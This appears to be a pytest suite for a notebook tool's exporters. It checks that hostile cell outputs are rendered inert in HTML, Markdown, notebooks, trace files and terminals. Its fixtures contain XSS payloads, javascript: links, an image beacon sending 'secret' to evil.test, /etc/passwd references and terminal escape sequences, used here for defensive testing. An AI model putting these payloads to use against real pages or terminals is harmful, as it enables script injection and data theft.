"""What a cell puts out, and what is written because of it, is text in all that a run leaves: nothing acts."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from html.parser import HTMLParser

import nbformat
import pytest
import recorded_run
from hypothesis import example, given
from hypothesis import strategies as st
from IPython.core.interactiveshell import InteractiveShell
from markdown_it import MarkdownIt

from rlm_kernel import Answer
from rlm_kernel import events as ev
from rlm_kernel.notebook.brief import WHOLE_CHARS, Whole
from rlm_kernel.notebook.bundle import mimebundle
from rlm_kernel.notebook.exporting import export
from rlm_kernel.notebook.feed import Feed
from rlm_kernel.notebook.inert import acts, line, shown_data
from rlm_kernel.notebook.inserting import insert
from rlm_kernel.notebook.markdown import words
from rlm_kernel.notebook.shown import Shown
from rlm_kernel.outputs import Output
from rlm_kernel.repl.received import MAX_FORM, output_of, within

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
BREAKS_OUT = '"><script>hacked()</script><img src=x onerror="hacked()">'
BEACON = "![seen](https://evil.test/?d=secret)"
HOSTILE = (
    f"</pre></details>{BREAKS_OUT}<svg onload='hacked()'></svg>\n\n{BEACON} [go](javascript:hacked())\n```"
)
FORMS = {
    "text/html": f"<b>table</b>{BREAKS_OUT}",
    "text/markdown": f"*words* {BEACON}{BREAKS_OUT}",
    "text/latex": r"$\href{javascript:hacked()}{x}$",
    "application/javascript": "hacked()",
    "image/svg+xml": "<svg onload='hacked()'/>",
    "application/vnd.jupyter.widget-view+json": '{"model_id": "m"}',
    "application/vnd.rlm.trace+json": '{"lines": []}',
    "image/png": BREAKS_OUT,
    "image/jpeg": PIXEL,
    "image/bmp": base64.b64encode(b"BM" * 200_000).decode(),
    "application/json": json.dumps({"a": BREAKS_OUT}),
}
LIVE = {"text/html", "text/markdown", "text/latex", "application/javascript", "image/svg+xml"}
PASSIVE = {
    *(
        "a",
        "b",
        "blockquote",
        "body",
        "br",
        "code",
        "del",
        "details",
        "div",
        "em",
        "head",
        "html",
        "h1",
        "h2",
    ),
    *(
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "li",
        "meta",
        "ol",
        "p",
        "pre",
        "small",
        "strong",
        "style",
        "summary",
    ),
    *("table", "tbody", "td", "th", "thead", "title", "tr", "ul"),
}
ATTRIBUTES = {"open", "lang", "charset", "name", "content", "http-equiv", "class", "href", "start", "title"}


class Elements(HTMLParser):
    """Fails at an element or attribute that does anything."""

    def __init__(self, html):
        super().__init__()
        self.styles = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        assert tag in PASSIVE, tag
        self.styles += tag == "style"
        for name, value in attrs:
            assert name in ATTRIBUTES, name
            assert name != "href" or value.startswith(("https://", "http://", "mailto:", "#")), value

    def handle_comment(self, data):
        raise AssertionError(data)


def rendered(text):
    """Markdown as viewers show it that let HTML through."""
    return Elements(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))


def hostile(repl="sandbox"):
    """A run whose texts all try to break out, and whose first cell displays everything there is."""
    outputs = (
        Output("display", f"a figure{HOSTILE}", {**FORMS, "image/gif": "R0lGODlhAQABAAAAACw="}),
        Output("result", "", {"text/html": BREAKS_OUT}),
        Output("display", "", {"image/png": PIXEL}),
        Output("stderr", HOSTILE),
        Output("error", HOSTILE, name=BREAKS_OUT, value=HOSTILE),
    )

    def changed(event):
        if isinstance(event, ev.CellFinished) and event.cell == "x1":
            return replace(event, outputs=outputs, lost=HOSTILE)
        if isinstance(event, ev.RunStarted):
            child = event.parent_run is not None
            return replace(event, query=f"child\n{HOSTILE}") if child else replace(event, repl=repl)
        return replace(event, reason=HOSTILE) if isinstance(event, ev.RunFinished) else event

    return [changed(event) for event in recorded_run.run("some words " * 500, hostile=HOSTILE)]


def test_the_page_is_passive(tmp_path):
    export(hostile(), tmp_path / "run.html")
    text = (tmp_path / "run.html").read_text()
    assert Elements(text).styles == 1
    assert "default-src 'none'" in text
    assert "&lt;script&gt;hacked()" in text


def test_the_output_in_a_notebook_is_passive():
    bundle = mimebundle(hostile(), inline_bytes=10_000_000)
    assert set(bundle) == {"application/vnd.rlm.trace+json", "text/html", "text/plain"}
    Elements(bundle["text/html"])
    # What a viewer takes for a tag in the trace, it takes out of a text: it is data, of one type only.
    assert "<script>" in json.dumps(bundle["application/vnd.rlm.trace+json"]["lines"])


def test_a_trace_file_holds_data_alone(tmp_path):
    export(hostile(), tmp_path / "run.rlm.json")
    trace = json.loads((tmp_path / "run.rlm.json").read_text())
    assert set(trace) <= {"version", "summary", "lines", "path", "lost", "bytes"}
    events = [json.loads(json.dumps(line)) for line in trace["lines"]]
    assert HOSTILE in "".join(each.get("text") or "" for each in events if each["type"] == "text")
    # The page takes pictures by their bytes; what is called one and isn't never gets an address.
    assert "data:" not in "".join(each for each in trace["summary"].values() if isinstance(each, str))


def test_cells_put_below_send_a_terminal_nothing(monkeypatch):
    shown = []

    class Handle:
        def update(self, data, raw):
            shown.append(data)

    monkeypatch.setattr("IPython.display.display", lambda data, **_: (shown.append(data), Handle())[1])
    insert(["print('\x1b]52;c;aGFja2Vk\x07 </pre><img src=x>')", "x = '\u202e'"], "2 cells of run 1")
    Elements(shown[0]["text/html"])
    assert "2 cells of run 1" in shown[0]["text/plain"]
    assert not set("\x1b\x07\u202e") & set(shown[0]["text/plain"])


def test_markdown_is_passive_and_keeps_every_letter(tmp_path):
    export(hostile(), tmp_path / "run.md")
    text = (tmp_path / "run.md").read_text()
    rendered(text.replace("<details><summary>", "").replace("</summary>", "").replace("</details>\n", ""))
    assert BEACON in text
    assert HOSTILE in text


def test_a_notebook_keeps_pictures_and_data_and_says_what_it_leaves_out(tmp_path):
    export(hostile(), tmp_path / "run.ipynb")
    notebook = nbformat.read(tmp_path / "run.ipynb", 4)
    nbformat.validate(notebook)
    for cell in notebook.cells:
        if cell.cell_type == "markdown" and "rlm-calls" not in cell.metadata.tags:
            rendered(cell.source)
    shown, html, picture, *_ = next(
        cell for cell in notebook.cells if "rlm-cell" in cell.metadata.get("tags", ())
    ).outputs
    assert set(shown.data) == {"text/plain", "application/json", "image/gif"}
    assert set(shown.metadata.rlm.left_out) == {*FORMS} - {"application/json"}
    assert html.data == {"text/plain": "[text/html, not kept]"}
    assert picture.data["image/png"] == PIXEL
    rights = next(cell for cell in notebook.cells if cell.id == "rlm-rights")
    assert "(sandbox)" in rights.source
    assert "rights" in rights.source


def test_a_notebook_of_a_run_with_its_users_rights_keeps_live_forms_but_no_false_pictures(tmp_path):
    export(hostile("local"), tmp_path / "run.ipynb")
    notebook = nbformat.read(tmp_path / "run.ipynb", 4)
    nbformat.validate(notebook)
    cell = next(cell for cell in notebook.cells if "rlm-cell" in cell.metadata.get("tags", ()))
    assert set(cell.outputs[0].data) >= LIVE
    assert not {"image/png", "image/jpeg"} & set(cell.outputs[0].data)
    assert not any(each.id == "rlm-rights" for each in notebook.cells)


def test_a_notebook_stays_passive_where_html_is_not_cleaned(tmp_path):
    nbconvert = pytest.importorskip("nbconvert")
    export(hostile(), tmp_path / "run.ipynb")
    exporter = nbconvert.HTMLExporter(template_name="basic")
    html = exporter.from_notebook_node(nbformat.read(tmp_path / "run.ipynb", 4))[0]

    class Seen(HTMLParser):
        def handle_starttag(self, tag, attrs):
            assert tag not in ("script", "svg", "iframe", "object", "base"), tag
            for name, value in attrs:
                assert not name.startswith("on"), (tag, name)
                if name in ("src", "href"):
                    assert value.startswith(("data:image/png;base64,", "data:image/gif;base64,", "#")), value

        def handle_data(self, data):
            assert self.lasttag not in ("script", "style") or "hacked" not in data

    Seen().feed(html)


def test_the_panel_gets_texts_and_pictures_only():
    feed, whole = Feed(lambda _: None, str), Whole(str)
    for event in hostile():
        feed.take(event)
        whole.take(event)
    feed.flush()
    assert "image/" not in json.dumps(feed.snapshot())
    outputs = next(each for each in whole.find("x1") if each["type"] == "cell_finished")["outputs"]
    assert outputs[2]["data"]["image/png"] == PIXEL
    # No picture: cut like any text.
    assert len(outputs[0]["data"]["image/bmp"]) < WHOLE_CHARS + 200


@pytest.mark.parametrize(
    "text",
    [
        "Three reasons:\n\n1. *cost*, see [the plan](https://example.org/plan)\n2. `a < b` and 3 < 4",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "```python\nprint('x')\n```",
        "AT&T: 5 > 3, list[int], a[0] = 1",
        "The path is C:\\temp, the price $5.",
    ],
)
def test_ordinary_words_stay_markdown(text):
    assert not acts(text)
    assert words(text) == text


@pytest.mark.parametrize("text", ["Which clause\n changed?", "AT&T: 5 > 3", "the file a_b.txt"])
def test_an_ordinary_line_stays_as_it_is(text):
    assert line(text) == " ".join(text.split())


@pytest.mark.parametrize(
    "text",
    [
        *(
            "<img src=x onerror=hacked()>",
            "<!-- swallowed",
            "</details>",
            BEACON,
            "![a][b]\n\n[b]: //evil.test",
        ),
        *("[a](javascript:hacked())", "[a](&#106;avascript:hacked())", "[a](\njavascript:hacked())"),
        *("[a]\n\n[a]: data:text/html;base64,AAAA", "[a](//evil.test)", "[a](file:///etc/passwd)"),
        *("```mermaid\ngraph TD\n```", "~~~ mermaid\ngraph\n~~~", "```{=html}\nx\n```", "```\nnot closed"),
        *(r"$\href{javascript:hacked()}{x}$", r"\input{/etc/passwd}", "> <script>hacked()</script>"),
    ],
)
def test_what_does_more_is_shown_as_it_is(text):
    assert acts(text)
    assert text.strip() in words(text)
    rendered(words(text))
    rendered(f"*{line(text)}*\n\n# {line(text)}")


PIECES = st.sampled_from(
    [*"<>![]()`~:\\/\"'&;#=-*_|\n\t x", "img", "script", "javascript:", "https://a.b", "```", "\n\n", "&#60;"]
)


@given(pieces=st.lists(PIECES, max_size=40))
@example(pieces=["`", "<img src=x>", "`"])
def test_no_words_act(pieces):
    text = "".join(pieces)
    rendered(words(text))
    rendered(f"# {line(text)}\n\n*{line(text)}*")


def test_an_answer_in_a_terminal_sends_it_nothing():
    shell = InteractiveShell()
    shown = Shown()
    shown.install(shell)
    answer = Answer("answered", "\x1b]52;c;aGFja2Vk\x07red\x1b[31m \u202e")
    try:
        forms = shell.display_formatter.format(answer)[0]
    finally:
        shown.remove()
    assert "red" in forms["text/plain"]
    assert not set("\x1b\x07\u202e") & set(forms["text/plain"] + forms["text/html"])


def test_a_picture_is_what_its_bytes_are():
    data = {"image/png": PIXEL, "image/jpeg": PIXEL, "image/gif": "no base64!", "image/webp": ""}
    assert shown_data(data, "local")[0] == {"image/png": PIXEL}


@pytest.mark.parametrize(
    ("type_", "content"),
    [
        ("stream", {"name": "stdout", "text": ["a", "list"]}),
        ("stream", {"name": "stdout", "text": {"a": 1}}),
        ("stream", {"name": "stdout"}),
        ("display_data", {"data": ["text/plain"]}),
        ("error", {"ename": {"a": 1}, "evalue": "v", "traceback": ["t"]}),
        ("error", {"ename": "E", "evalue": "v", "traceback": [1]}),
        ("error", {"ename": "E", "evalue": ["v"], "traceback": []}),
    ],
)
def test_malformed_messages_are_no_outputs(type_, content):
    with pytest.raises((KeyError, TypeError, ValueError, AttributeError)):
        output_of(type_, content)


def test_types_of_data_are_few_and_well_formed():
    names = [
        "text/html\n",
        "<script>",
        "a" * 200 + "/b",
        "text/html; charset=x",
        "text/x",
        "/",
        "text/h\u00e9",
    ]
    content = {"data": {**dict.fromkeys(names, "x"), "text/plain": ["a", "b"], "x/y": {"a": [1]}}}
    assert output_of("display_data", content) == Output("display", "ab", {"text/x": "x", "x/y": '{"a": [1]}'})
    many = output_of("display_data", {"data": {f"a/{n}": "" for n in range(1000)}})
    assert len(many.data) == 20
    assert output_of("comm_open", {"data": {}}) is None


def test_outputs_are_cut_to_the_room_that_is_left():
    assert within(Output("stdout", "abc"), 10) == (Output("stdout", "abc"), 3)
    assert within(Output("stdout", "abc"), 2)[0] == Output("stdout", "ab", dropped=1)
    assert within(Output("stdout", ""), 2)[1] == 1
    large = Output("display", "x" * 50, {"image/png": "y" * (MAX_FORM + 1), "image/gif": "z"})
    assert within(large, 40)[0] == Output("display", "x" * 40, {"image/gif": "z"}, dropped=10)
    assert within(Output("display", "", {"a/b": "x" * 99}), 10)[1] == 100
    assert len(within(Output("error", "t", name="E", value="v" * 99), 10)[0].value) == 10
